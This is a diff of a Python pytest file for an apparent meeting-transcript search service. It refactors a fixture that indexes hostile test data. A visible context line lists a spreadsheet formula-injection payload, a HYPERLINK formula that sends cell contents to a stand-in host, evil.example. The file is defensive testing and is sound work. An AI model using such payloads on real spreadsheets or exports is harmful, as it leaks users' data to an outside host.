@@ -2,13 +2,12 @@
 
 from __future__ import annotations
 
-import json
 import socket
 
 import pytest
 from fastapi.testclient import TestClient
 
-from hearings.index import ensure_indices
+from tests.conftest import index_meetings
 
 EVIL_TEXTS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"클릭")',
@@ -34,15 +33,8 @@ def free_port() -> int:
 
 @pytest.fixture(scope="session")
 def hostile_settings(settings, es_client, analyzer, tmp_path_factory):
-    from ingest.pipeline import ingest_paths
-
-    hostile = settings.model_copy(update={"index_alias": "test-hostile-turns"})
-    ensure_indices(es_client, hostile, recreate=True)
-    source = tmp_path_factory.mktemp("hostile") / "hostile.jsonl"
-    source.write_text(json.dumps(HOSTILE_MEETING, ensure_ascii=False) + "\n", encoding="utf-8")
-    summary = ingest_paths(es_client, hostile, analyzer, [source])
-    assert summary.turns == len(EVIL_TEXTS), summary.outcomes
-    return hostile
+    return index_meetings(settings, es_client, analyzer, tmp_path_factory.mktemp("hostile"), "test-hostile-turns",
+                          [HOSTILE_MEETING])
 
 
 @pytest.fixture(scope="session")
